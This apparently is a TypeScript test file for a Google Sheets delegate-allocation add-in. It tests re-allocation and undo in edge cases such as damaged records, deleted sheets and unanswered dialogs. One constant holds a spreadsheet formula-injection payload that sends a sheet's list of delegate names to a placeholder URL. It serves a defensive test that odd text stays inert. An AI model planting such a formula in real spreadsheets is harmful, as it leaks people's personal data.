/**
 * Attacks on the guarded re-allocation and "Hoàn tác phân bổ": bad arguments, a damaged or missing
 * record, odd text in the owned cells (a formula-looking name, a name of 49,999 characters: its record
 * spans two cells), a menu dialog nobody answers, a first allocation, and `Phân bổ` deleted.
 */
import { Runtime, runBundle } from '../../local/runtime';
import type { LocalSpreadsheet } from '../../local/runtime/spreadsheet';
import { buildSample } from '../../local/samples';
import { LANG_SON } from '../../samples/lang-son';
import type { AllocationResultDto, UndoAllocationResultDto } from '../../src/rpc/contract';
import { REALLOCATION_MESSAGES } from '../../src/ui/vi';
import { diff, describe as lines, parseA1, snapshot, type WorkbookSnapshot } from '../trust/snapshot';

const NOW = '2024-01-14T09:00:00+07:00';
const HISTORY = 'Trợ lý DTTS – phân bổ trước';
const INJECTION = `=HYPERLINK("https://x/?"&TEXTJOIN(",",1,'Đại biểu'!B2:B400),"x")`;

const call = <T>(rt: Runtime, fn: string, ...args: unknown[]) => runBundle(rt, fn, args).result as T;
const errorOf = (fn: () => unknown): string => {
  try {
    fn();
  } catch (e) {
    return (e as Error).message;
  }
  throw new Error('expected an error');
};
const sheetOf = (ss: LocalSpreadsheet, name: string) => {
  const s = ss.getSheetByName(name);
  if (!s) throw new Error(`no sheet ${name}`);
  return s;
};
/** Every difference but the add-in's hidden record. */
const exceptHistory = (a: WorkbookSnapshot, b: WorkbookSnapshot) =>
  diff(a, b).filter(
    (d) =>
      d.sheet !== HISTORY &&
      !(d.field === 'sheets' && d.before.replace(` | ${HISTORY}`, '') === d.after.replace(` | ${HISTORY}`, '')),
  );

/** Raises the official total by 7 in `Cấu hình`, so that a re-allocation changes figures. */
function raiseTotal(ss: LocalSpreadsheet): void {
  const config = sheetOf(ss, 'Cấu hình');
  const values = config.getDataRange().getValues();
  const row = values.findIndex((r) => r[0] === 'Tổng số đại biểu chính thức') + 1;
  config.getRange(row, 2).setValue(Number(values[row - 1]?.[1]) + 7);
}

/** The sample allocated once, then its total raised: a re-allocation would change figures. */
function allocatedThenChanged(edit?: (ss: LocalSpreadsheet) => void) {
  const ss = buildSample(LANG_SON);
  edit?.(ss);
  const rt = new Runtime({ spreadsheet: ss, now: NOW });
  const first = call<AllocationResultDto>(rt, 'allocateDelegates');
  if (!first.ok) throw new Error(first.message);
  raiseTotal(ss);
  return { ss, rt };
}

function reallocate(rt: Runtime): AllocationResultDto {
  const p = call<AllocationResultDto>(rt, 'previewAllocation');
  const r = call<AllocationResultDto>(rt, 'allocateDelegates', { confirmed: true, expect: p.preview?.digest });
  if (!r.ok) throw new Error(r.message);
  return r;
}

describe('bad arguments are refused in Vietnamese before anything is read', () => {
  const rt = new Runtime({ spreadsheet: buildSample(LANG_SON), now: NOW });
  test.each([
    ['allocateDelegates', [{ confirmed: 'yes' }]],
    ['allocateDelegates', [{ confirmed: true, expect: 'xyz' }]],
    ['allocateDelegates', [{ confirmed: true, khac: 1 }]],
    ['allocateDelegates', ['confirmed']],
    ['previewAllocation', [1]],
    ['undoAllocation', [{ confirmed: true }]],
  ])('%s %j', (fn, args) => {
    expect(errorOf(() => runBundle(rt, fn, args))).toMatch(/^Tham số không hợp lệ khi gọi/);
  });
});

test('a first allocation on an empty `Phân bổ` needs no confirmation and keeps no record; undo says there is nothing', () => {
  const ss = buildSample(LANG_SON);
  const rt = new Runtime({ spreadsheet: ss, now: NOW });
  const p = call<AllocationResultDto>(rt, 'previewAllocation');
  expect(p.preview?.existing).toBe(false);
  expect(p.preview?.needsConfirmation).toBe(false);
  expect(p.message).toBe(REALLOCATION_MESSAGES.previewFirst(p.methodName));
  expect(call<AllocationResultDto>(rt, 'allocateDelegates').ok).toBe(true);
  expect(ss.getSheetByName(HISTORY)).toBeNull();
  const before = snapshot(ss);
  const u = call<UndoAllocationResultDto>(rt, 'undoAllocation');
  expect(u).toMatchObject({ ok: false, message: REALLOCATION_MESSAGES.undoNothing });
  expect(lines(diff(before, snapshot(ss)))).toEqual([]);
});

test('an unchanged re-run writes no record and needs no confirmation', () => {
  const ss = buildSample(LANG_SON);
  const rt = new Runtime({ spreadsheet: ss, now: NOW });
  call<AllocationResultDto>(rt, 'allocateDelegates');
  const again = call<AllocationResultDto>(rt, 'allocateDelegates');
  expect(again.ok).toBe(true);
  expect(again.needsConfirmation).toBeUndefined();
  expect(ss.getSheetByName(HISTORY)).toBeNull();
});

test('the record is a hidden sheet of plain text; a damaged record is refused and nothing changes', () => {
  const { ss, rt } = allocatedThenChanged();
  ss.setActiveSheet(sheetOf(ss, 'Đơn vị'));
  reallocate(rt);
  // The officer stays where they were (insertSheet activates the new sheet).
  expect(ss.getActiveSheet().getName()).toBe('Đơn vị');
  const record = sheetOf(ss, HISTORY);
  expect(record.isSheetHidden()).toBe(true);
  expect(record.getRange(3, 1, 1, 3).getNumberFormats()[0]).toEqual(['@', '@', '@']);
  record.getRange(3, 3).setValue('{"cells": hỏng');
  const before = snapshot(ss);
  const u = call<UndoAllocationResultDto>(rt, 'undoAllocation');
  expect(u).toMatchObject({ ok: false, message: REALLOCATION_MESSAGES.undoDamaged });
  expect(lines(diff(before, snapshot(ss)))).toEqual([]);
});

test('`Phân bổ` deleted before the undo: refused, nothing changes', () => {
  const { ss, rt } = allocatedThenChanged();
  reallocate(rt);
  ss.deleteSheet(sheetOf(ss, 'Phân bổ'));
  const before = snapshot(ss);
  const u = call<UndoAllocationResultDto>(rt, 'undoAllocation');
  expect(u.ok).toBe(false);
  expect(u.message).toBe(REALLOCATION_MESSAGES.undoNoSheet('Phân bổ'));
  expect(lines(diff(before, snapshot(ss)))).toEqual([]);
});

test('odd text in owned cells comes back exactly as text: a formula-looking name, a name of 49,999 characters', () => {
  const long = `Xã ${'Bản Dài '.repeat(6300)}`.slice(0, 49_999).trim();
  const { ss, rt } = allocatedThenChanged((s) => {
    const units = sheetOf(s, 'Đơn vị');
    units.getRange('B2').setValue(`'${INJECTION}`);
    units.getRange('B3').setValue(`'${long}`);
  });
  const allocation = sheetOf(ss, 'Phân bổ');
  const before = snapshot(ss);
  reallocate(rt);
  const u = call<UndoAllocationResultDto>(rt, 'undoAllocation');
  expect(u.ok).toBe(true);
  expect(lines(exceptHistory(before, snapshot(ss)))).toEqual([]);
  const names = allocation.getRange(2, 2, 2, 1);
  expect(names.getFormulas()).toEqual([[''], ['']]);
  expect(names.getValues()).toEqual([[INJECTION], [long]]);
});

test('the menu: a question nobody answers is not a yes (Button.CLOSE), nothing is written', () => {
  const { ss, rt } = allocatedThenChanged();
  const before = snapshot(ss);
  runBundle(rt, 'menuAllocateDelegates');
  expect(rt.ui.alerts.at(-1)?.response).toBe('CLOSE');
  expect(lines(diff(before, snapshot(ss)))).toEqual([]);
  expect(rt.ui.toasts.at(-1)?.message).toBe(REALLOCATION_MESSAGES.declined);
});

test('the sidebar overview says what undo would restore, and nothing after the undo', () => {
  const { rt } = allocatedThenChanged();
  expect(call<{ allocationUndo: unknown }>(rt, 'getOverview').allocationUndo).toBeNull();
  reallocate(rt);
  const kept = call<{ allocationUndo: { method: string; methodName: string } | null }>(rt, 'getOverview');
  expect(kept.allocationUndo?.method).toBe('hamilton');
  expect(kept.allocationUndo?.methodName).toMatch(/Hamilton/);
  call<UndoAllocationResultDto>(rt, 'undoAllocation');
  expect(call<{ allocationUndo: unknown }>(rt, 'getOverview').allocationUndo).toBeNull();
});

test('a unit row the record does not know is left as it is and named; the message says Cấu hình keeps its method', () => {
  const { ss, rt } = allocatedThenChanged();
  const config = sheetOf(ss, 'Cấu hình');
  const values = config.getDataRange().getValues();
  config.getRange(values.findIndex((r) => r[0] === 'Phương pháp phân bổ') + 1, 2).setValue('Jefferson');
  reallocate(rt);
  const allocation = sheetOf(ss, 'Phân bổ');
  const last = allocation.getLastRow();
  // The officer types a row of their own below the units: a code and a name the record never saw.
  allocation.getRange(last + 2, 1, 1, 2).setValues([["'XM", "'Xã Mới"]]);
  const mine = snapshot(ss);
  const u = call<UndoAllocationResultDto>(rt, 'undoAllocation');
  expect(u.ok).toBe(true);
  expect(u.message).toContain(REALLOCATION_MESSAGES.undoUntouched(['Xã Mới']));
  expect(u.message).toMatch(/trang "Cấu hình" vẫn ghi .*Jefferson/);
  // The officer's row, whole cells, every column: untouched.
  const row = diff(mine, snapshot(ss)).filter(
    (d) => d.sheet === 'Phân bổ' && d.cell && parseA1(d.cell)[0] === last + 2,
  );
  expect(lines(row)).toEqual([]);
  expect(allocation.getRange(last + 2, 1, 1, 2).getValues()).toEqual([['XM', 'Xã Mới']]);
});
